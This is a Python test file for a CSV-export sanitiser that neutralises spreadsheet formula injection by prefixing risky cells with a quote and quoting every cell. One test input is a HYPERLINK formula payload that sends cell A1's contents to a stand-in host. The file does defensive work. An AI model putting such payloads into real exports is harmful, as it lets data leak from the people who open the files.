import csv
import io
from datetime import date

import pytest

from portal.rules.csv_safety import BYTE_ORDER_MARK, safe_cell, safe_csv


@pytest.mark.parametrize("typed,stored", [
    ('=HYPERLINK("https://example.invalid/?d="&A1,"Klik")', '\'=HYPERLINK("https://example.invalid/?d="&A1,"Klik")'),
    ("+31612345678", "'+31612345678"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(typed, stored):
    assert safe_cell(typed) == stored


@pytest.mark.parametrize("value,shown", [
    ("Fatima", "Fatima"), ("فاطمة", "فاطمة"), ("2026-12-03", "2026-12-03"), ("Jan = Piet", "Jan = Piet"),
    ("06-12345678", "06-12345678"), ("", ""), (None, ""), (7, "7"),
])
def test_other_cells_stay_as_they_are(value, shown):
    assert safe_cell(value) == shown


def _read(text: str) -> list[list[str]]:
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK)), delimiter=";"))


def test_a_file_is_one_header_row_and_one_row_per_item_every_cell_quoted():
    text = safe_csv(["reference", "call_name"], [["KP7-3XA", "Fatima"], ["QR2-9ZZ", "=1+1"]])
    assert text.splitlines()[0] == '\ufeff"reference";"call_name"'
    assert _read(text) == [["reference", "call_name"], ["KP7-3XA", "Fatima"], ["QR2-9ZZ", "'=1+1"]]


def test_a_separator_inside_a_value_cannot_start_a_cell_of_its_own():
    """A reader splitting on ";" or "," still sees one cell: every cell is quoted, so the "=" after the separator
    stays inside the quotes (a writer quoting only when needed would leave `a,=1+1` bare for a comma reader)."""
    text = safe_csv(["call_name"], [["Jan;=1+1"], ["Jan,=1+1"]])
    assert text.splitlines()[1:] == ['"Jan;=1+1"', '"Jan,=1+1"']
    assert _read(text)[1:] == [["Jan;=1+1"], ["Jan,=1+1"]]


def test_a_quote_inside_a_value_is_doubled():
    assert safe_csv(["n"], [['Jan "de Bakker"']]).splitlines()[1] == '"Jan ""de Bakker"""'


def test_numbers_dates_and_yes_no_are_written_as_values_not_neutralised():
    """A negative count is a number, not a formula; only text gets the quote."""
    assert safe_cell(-2) == "-2"
    assert safe_cell(66.7) == "66.7"
    assert safe_cell(True) == "1" and safe_cell(False) == "0"
    assert safe_cell(date(2026, 11, 16)) == "2026-11-16"
